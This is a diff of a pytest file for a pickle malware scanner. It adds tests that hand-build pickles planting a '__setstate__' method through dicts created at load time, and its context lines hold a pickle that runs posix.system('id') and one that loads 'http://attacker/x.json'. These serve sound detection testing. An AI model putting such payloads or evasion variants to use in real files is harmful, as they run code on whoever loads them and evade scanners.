@@ -6,7 +6,7 @@ import struct
 import zlib
 
 import pytest
-from scanner_samples import is_malicious, scan
+from scanner_samples import is_malicious, rules, scan
 
 PAYLOAD = b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
 
@@ -90,3 +90,27 @@ def test_pandas_readers_under_their_public_name_are_not_allowed(tmp_path, name):
     p.write_bytes(b"\x80\x04\x8c\x11pandas.api.typing\x94\x8c" + bytes([len(name)]) + name.encode()
                   + b"\x94\x93\x8c\x16http://attacker/x.json\x94\x85\x94R\x94.")
     assert is_malicious(scan(p))
+
+
+def _s(text: str) -> bytes:
+    return b"\x8c" + bytes([len(text)]) + text.encode()
+
+
+_ORDERED_DICT = b"\x80\x04" + _s("collections") + _s("OrderedDict") + b"\x93)R"
+_MEAN = _s("numpy") + _s("mean") + b"\x93"
+_DICT_CALL = _s("builtins") + _s("dict") + b"\x93" + _s("__setstate__") + _MEAN + b"\x86\x85\x85R"  # dict(((k, v),))
+
+
+@pytest.mark.parametrize("state", [
+    _DICT_CALL,  # a dict built by dict([(k, v)]): the unpickler takes any dict as the state
+    b"N" + _DICT_CALL + b"\x86",  # the same as the slot state
+    _s("builtins") + _s("dict") + b"\x93)}" + _s("__setstate__") + _MEAN + b"s\x92",  # dict(**{k: v})
+    _s("collections") + _s("OrderedDict") + b"\x93)R" + _s("__setstate__") + _MEAN + b"s",  # OrderedDict() + SETITEM
+    b"}" + _s("builtins") + _s("str") + b"\x93C\x0c__setstate__" + _s("ascii") + b"\x86R" + _MEAN + b"s",  # computed key
+], ids=["dict-call", "slot-state", "dict-kwargs", "ordereddict-setitem", "computed-key"])
+def test_build_planting_setstate_through_a_dict_built_at_load_time(tmp_path, state):
+    """BUILD with a state whose '__setstate__' key is not a literal of a dict literal plants the method
+    all the same (the next BUILD calls it with anything): reported like a literal dunder key."""
+    p = tmp_path / "planted.pkl"
+    p.write_bytes(_ORDERED_DICT + state + b"b" + _s("x") + b"b.")
+    assert "pickle.build.dunder" in rules(scan(p))
